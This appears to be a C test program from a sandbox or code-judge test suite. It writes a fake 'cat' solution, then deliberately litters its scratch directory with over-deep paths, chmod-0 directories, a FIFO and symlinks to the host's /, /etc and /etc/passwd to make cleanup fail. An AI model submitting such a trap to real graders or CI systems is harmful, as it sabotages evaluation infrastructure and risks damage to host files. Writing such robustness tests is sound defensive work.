/* A compile step that leaves its scratch directory hard to remove: a chain
 * of directories deeper than PATH_MAX (argv[2] levels), directories made
 * unreadable and unwritable (chmod 0), links to the host's / and /etc, a
 * FIFO; then it writes {out} (argv[1]) as a working solution (a shell script
 * running cat), so the judge goes on to grade and then has to clean up. */
#include "attack.h"
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	int out = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (out < 0 || write(out, "#!/bin/sh\nexec cat\n", 19) != 19 || close(out) < 0)
		return 3;
	int depth = atoi(argv[2]), made = 0;
	if (mkdir("deep", 0755) < 0 || chdir("deep") < 0)
		return 4;
	(void)!symlink("/", "root");
	(void)!symlink("/etc", "etc");
	(void)!mkfifo("fifo", 0600);
	for (; made < depth; made++) {
		if (mkdir("directory_level_with_a_long_name", 0755) < 0 || chdir("directory_level_with_a_long_name") < 0)
			break;
		if (made % 500 == 0) { /* a locked room every 500 levels */
			(void)!mkdir("locked", 0700);
			(void)!symlink("/etc/passwd", "locked/passwd");
			(void)!chmod("locked", 0);
		}
	}
	int fd = open("leaf", O_WRONLY | O_CREAT, 0600);
	say("depth %d, leaf: %s", made, fd >= 0 ? "OK" : ename(errno));
	(void)!chmod(".", 0);
	return 0;
}
